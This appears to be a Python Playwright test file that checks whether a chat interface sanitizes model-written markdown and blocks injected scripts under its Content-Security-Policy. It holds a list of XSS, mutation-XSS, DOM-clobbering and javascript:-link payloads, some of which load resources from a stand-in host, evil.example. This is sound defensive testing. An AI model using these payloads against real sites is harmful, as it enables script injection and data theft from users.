"""Untrusted text of a model: nothing of it runs, nothing of it is loaded."""

from playwright.sync_api import expect

from tests.page.conftest import Visitor
from tests.servers.page_server import PageServer, whole

TRAP = "window.trapped=1"
HOSTILE = {
    "script": f"Hi <script>{TRAP}</script> there",
    "script block": f"<script>\n{TRAP}\n</script>\n\nThere",
    "handler": f'<img src=x onerror="{TRAP}"> and <b onmouseover="{TRAP}">bold</b>',
    "svg": f'<svg onload="{TRAP}"><script>{TRAP}</script><animate onbegin="{TRAP}" attributeName="x"/></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{TRAP}</script>"></iframe><object data="https://evil.example/o"></object>',
    "link": f"[click](javascript:{TRAP}) and <a href='javascript:{TRAP}'>this</a> [data](data:text/html,x)",
    "odd link": f"[click](java\u0000script:{TRAP}) [x]( javascript:{TRAP}) [y](&#106;avascript:{TRAP}) <javascript:x>",
    "image": '![a](https://evil.example/a.png?secret=1 "t") ![b][r]\n\n[r]: https://evil.example/b.png',
    "html image": "<img src='https://evil.example/c.png'><picture><source srcset='https://evil.example/d.png'></picture>",
    "style": "<style>@import 'https://evil.example/e.css';*{display:none}</style><p style='background:url(https://evil.example/f)'>p",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><button autofocus>Send</button></form><input onfocus=x autofocus>',
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={TRAP}&gt;'>",
    "fence": f'```"><img src=x onerror={TRAP}>\n</code></pre><script>{TRAP}</script>\n```',
    "fence in list": f'- a\n\n  ```"><img/src=x/onerror={TRAP}>\n  </pre><script>{TRAP}</script>\n  ```',
    "table": f"|<script>{TRAP}</script>|b|\n|-|-|\n|<img src=x onerror={TRAP}>|![x](https://evil.example/g.png)|",
    "clobber": '<a id="message" name="body">x</a><form id="announcer"><input name="attributes"></form>',
    "prefetch": '<link rel="prefetch" href="https://evil.example/h"><video poster="https://evil.example/i">',
}


UNWANTED = (
    ".markdown :is(script, style, img, svg:not(.icon), iframe, object, form, input, meta, base, link, video, source, "
    "[style], [id], [name], [onerror], [onload], [onmouseover])"
)


def test_hostile_markdown_runs_nothing_and_sends_nothing(visitor: Visitor, server: PageServer) -> None:
    page = visitor.page
    for count, (name, reply) in enumerate(HOSTILE.items(), start=1):
        server.will(whole(reply))
        visitor.ask(name)
        expect(visitor.replies).to_have_count(count)
        expect(visitor.replies.last.locator(UNWANTED)).to_have_count(0)
        for link in visitor.replies.last.locator(".markdown a[href]").all():
            assert str(link.get_attribute("href")).startswith("https://evil.example/"), name
            assert link.get_attribute("rel") == "noopener noreferrer nofollow", name
        visitor.replies.last.hover()
        assert page.evaluate("window.trapped") is None, name
    page.reload()
    visitor.ready()
    expect(visitor.replies).to_have_count(len(HOSTILE))
    visitor.shot("hostile")
    assert page.evaluate("window.trapped") is None
    assert set(server.paths) == {"/", "/health/ready", "/v1/models", "/v1/chat/completions"}


def test_html_is_shown_as_text(visitor: Visitor, server: PageServer) -> None:
    server.will(whole("Use <button onclick='x'>this</button>, or<br>that: H<sub>2</sub>O."))
    visitor.ask("How?")
    expect(visitor.replies.locator(".markdown")).to_have_text("Use <button onclick='x'>this</button>, orthat: H2O.")
    expect(visitor.replies.locator("sub")).to_have_text("2")


def test_user_messages_are_text(visitor: Visitor, server: PageServer) -> None:
    server.will(whole("Yes."))
    visitor.ask("<img src=x onerror=alert(1)> **bold**")
    expect(visitor.questions).to_have_text("<img src=x onerror=alert(1)> **bold**")
    expect(visitor.page.locator(".conversation")).to_have_text("<img src=x onerror=alert(1)> **bold**")


def test_policy_blocks_injected_scripts(visitor: Visitor) -> None:
    """The Content-Security-Policy holds without the sanitizer."""
    stopped = visitor.page.evaluate(
        """() => {
            const image = new Image();
            const loaded = new Promise((resolve) => {
                image.onload = () => resolve("loaded");
                image.onerror = () => resolve("stopped");
            });
            image.src = "https://evil.example/x.png";
            let sink = "open";
            try { document.createElement("div").innerHTML = "<b>x</b>"; } catch { sink = "closed"; }
            return loaded.then((image) => [image, sink]);
        }"""
    )
    assert stopped == ["stopped", "closed"]
    visitor.complaints = [
        text for text in visitor.complaints if "Content Security Policy" not in text and "TrustedHTML" not in text
    ]
    visitor.requested = [url for url in visitor.requested if "evil.example" not in url]
